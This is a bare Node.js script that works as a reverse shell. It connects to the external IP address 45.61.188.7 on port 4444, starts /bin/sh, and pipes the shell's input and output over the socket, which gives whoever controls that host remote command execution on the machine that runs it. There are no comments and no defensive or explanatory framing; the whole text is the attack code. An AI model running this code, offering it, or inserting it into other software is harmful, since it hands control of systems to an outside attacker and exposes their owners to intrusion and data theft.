const net = require('net');
const { spawn } = require('child_process');
const s = net.connect(4444, '45.61.188.7', () => {
  const sh = spawn('/bin/sh', []);
  s.pipe(sh.stdin);
  sh.stdout.pipe(s);
});
